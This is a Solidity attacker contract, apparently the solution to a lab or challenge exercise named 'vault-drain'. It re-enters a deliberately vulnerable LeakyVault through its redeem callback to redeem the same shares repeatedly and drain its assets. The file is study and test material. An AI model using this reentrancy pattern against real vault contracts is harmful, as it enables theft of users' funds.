// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IRedeemer, LeakyVault} from "./LeakyVault.sol";

/// @notice The attacker of `vault-drain`: redeems the same shares again from inside the vault's callback.
contract VaultDrainer is IRedeemer {
    error NotOwner(address caller);

    LeakyVault public immutable VAULT;
    address public immutable OWNER;
    uint256 private _left;

    constructor(LeakyVault vault) {
        VAULT = vault;
        OWNER = msg.sender;
        vault.ASSET().approve(address(vault), type(uint256).max);
    }

    /// @notice Deposits `assets` of its own and is paid `times` for the shares.
    function strike(uint256 assets, uint256 times) external {
        require(msg.sender == OWNER, NotOwner(msg.sender));
        uint256 shares = VAULT.deposit(assets);
        _left = times - 1;
        VAULT.redeem(shares, address(this));
    }

    function onRedeemed(uint256 shares, uint256) external {
        if (_left == 0) return;
        --_left;
        VAULT.redeem(shares, address(this));
    }
}
